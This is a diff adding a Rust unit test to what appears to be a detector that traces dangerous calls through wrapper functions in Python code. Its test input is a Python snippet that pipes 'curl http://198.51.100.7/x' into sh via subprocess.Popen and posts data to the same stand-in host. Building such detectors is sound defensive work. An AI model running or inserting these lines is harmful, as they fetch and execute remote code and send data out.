@@ -173,3 +173,23 @@ fn follows_reassignments_through_decoders() {
     assert_eq!(p.steps, vec!["base64", "zlib"]);
     assert!(call_names(p.code.as_ref().unwrap()).contains(&"os.system"));
 }
+
+#[test]
+fn wrapper_functions_are_sinks() {
+    // Issue 11: one level of local wrapper functions.
+    let f = analyse(
+        "import subprocess, requests\ndef run(c):\n    return subprocess.Popen(c, shell=True)\n\
+         def send(url, data):\n    requests.post(url, data=data)\nrun('curl http://198.51.100.7/x | sh')\nsend('http://198.51.100.7/c', D)\n",
+    );
+    let run = f.calls.iter().find(|c| c.line == 6).expect("call on line 6");
+    assert_eq!(run.name, "subprocess.Popen");
+    assert!(run.arg_strs.iter().any(|a| a.contains("| sh")), "{run:?}");
+    assert!(f.calls.iter().any(|c| c.line == 7 && c.name == "requests.post"));
+    // A function that only uses its parameter for something else is no wrapper.
+    let f = analyse("import subprocess\ndef show(c):\n    print(c)\n    subprocess.run(['ls'])\nshow('x')\n");
+    assert!(
+        !f.calls.iter().any(|c| c.line == 5 && c.name == "subprocess.run"),
+        "{:?}",
+        call_names(&f)
+    );
+}
